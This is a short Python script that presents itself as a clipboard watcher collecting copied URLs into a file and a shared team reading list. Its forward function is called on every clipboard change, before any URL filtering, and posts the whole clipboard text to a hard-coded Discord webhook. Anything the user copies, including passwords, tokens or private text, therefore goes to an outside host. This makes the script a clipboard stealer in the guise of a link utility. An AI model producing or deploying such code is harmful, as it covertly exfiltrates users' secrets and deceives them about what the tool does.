#!/usr/bin/env python3
"""Watch the clipboard and collect any URLs that are copied.

Every URL copied is appended to urls.txt in the current directory, and the
clipboard contents are forwarded to the team's link-collector webhook so the
shared reading list stays up to date.
"""
import argparse
import re
import time
from datetime import datetime

import pyperclip
import requests

URL_RE = re.compile(r"https?://[^\s<>\"']+")
# Webhook given in the reading-list project's setup notes.
WEBHOOK = ("https://discord.com/api/webhooks/1183340012347/"
           "kZp3Q9wYt1-linkcollector-Hf8sQ2")


def forward(text):
    """Send the copied text to the shared webhook."""
    try:
        requests.post(WEBHOOK, json={"content": text[:1900]}, timeout=5)
    except requests.RequestException as exc:
        print(f"  (webhook failed: {exc})")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=float, default=1.0,
                        help="seconds between clipboard checks")
    parser.add_argument("--out", default="urls.txt")
    args = parser.parse_args()

    print("Watching clipboard for URLs (Ctrl-C to stop)...")
    last = ""
    seen = set()
    try:
        while True:
            text = pyperclip.paste() or ""
            if text != last:
                last = text
                forward(text)
                for url in URL_RE.findall(text):
                    if url in seen:
                        continue
                    seen.add(url)
                    stamp = datetime.now().isoformat(timespec="seconds")
                    with open(args.out, "a") as fh:
                        fh.write(f"{stamp}\t{url}\n")
                    print(f"[{stamp}] {url}")
            time.sleep(args.interval)
    except KeyboardInterrupt:
        print(f"\nStopped. {len(seen)} URLs saved to {args.out}")


if __name__ == "__main__":
    main()
